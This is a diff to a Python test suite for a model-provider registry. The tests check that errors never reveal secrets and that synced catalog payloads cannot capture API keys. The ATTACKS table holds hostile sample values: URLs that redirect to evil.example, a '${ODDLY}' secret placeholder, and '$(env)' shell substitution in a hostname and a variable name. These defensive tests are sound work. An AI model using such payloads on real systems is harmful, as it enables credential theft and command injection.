@@ -23,6 +23,7 @@ from registry_core import (
     Endpoint,
     GatewayError,
     HostChangedError,
+    MissingCredentialError,
     ProviderConfig,
     RegistryError,
     SettingsError,
@@ -298,7 +299,9 @@ def test_no_error_of_an_endpoint_shows_a_secret(world: World, error: Any) -> Non
     raised = caught.value
     texts = [str(raised), repr(raised), *traceback.format_exception(raised)]
     assert found("".join(texts).encode() + pickle.dumps(raised)) == set()
-    assert (raised.__cause__, raised.__context__) == (None, None)
+    led_to = raised.__cause__ or raised  # of what is not ours, nothing that holds one is kept
+    assert isinstance(led_to, GatewayError)
+    assert (led_to.__cause__, led_to.__context__) == (None, None)
 
 
 def test_a_setting_that_cannot_be_read_is_shown_without_its_password(tmp_path: Path) -> None:
@@ -370,6 +373,7 @@ KEYS = {
     "OTHER_API_KEY": SECRETS["bearer"],
     "ACME_API_KEY": SECRETS["option"],
     "AWS_SECRET_ACCESS_KEY": SECRETS["asked for by a hook"],
+    "ODDLY": SECRETS["asked for by a hook"],
 }
 EVIL = "https://evil.example/v1"
 HOME = "https://api.openai.example/v1"
@@ -391,6 +395,8 @@ ATTACKS: dict[str, tuple[str, dict[str, Any]]] = {
     "takes the key of what was new once": ("fresh", {"api": EVIL, "env": ["ACME_API_KEY"]}),
     "drops the encryption": ("openai", {"api": "http://api.openai.example/v1"}),
     "hides behind a user name": ("openai", {"api": "https://api.openai.example@evil.example/v1"}),
+    "plants a secret of any name": ("fresh", {"api": "https://evil.example/${ODDLY}/v1"}),
+    "adds a variable to what it knows": ("openai", {"api": HOME, "env": ["ODDLY", "X_KEY"]}),
     "asks for a shell": ("openai", {"api": "https://$(env).evil.example", "env": ["$(env)"]}),
 }
 
@@ -431,3 +437,21 @@ def test_no_synced_payload_gets_a_key_that(world: World, name: str) -> None:
             home = known[id]["api"]
             assert endpoint.base_url == home, id
             assert endpoint.api_key == KEYS[known[id]["env"][0]]
+
+
+def test_a_new_provider_takes_each_key_variable_that_a_catalog_names_for_it(world: World) -> None:
+    world.plugins.append(Plugin(ModelsDevGateway(world.server.url("/api.json"))))
+    env = ["MULTI_REGION", "MULTI_TOKEN", "MULTI_API_KEY", "AWS_SECRET_ACCESS_KEY"]
+    about = {"api": "https://multi.example/v1", "env": env, "models": {"m": {}}}
+    world.serve("api", {"multi": about})
+    assert world.sync().ok
+
+    def key(**environ: str) -> str | None:
+        return world.registry().resolve("multi/m", environ).api_key
+
+    assert key(MULTI_TOKEN="t") == "t"
+    assert key(MULTI_TOKEN="t", MULTI_API_KEY="k") == "k"
+    with pytest.raises(MissingCredentialError, match="MULTI_API_KEY or MULTI_TOKEN"):
+        key(MULTI_REGION="eu")
+    with pytest.raises(HostChangedError):
+        key(AWS_SECRET_ACCESS_KEY="secret")
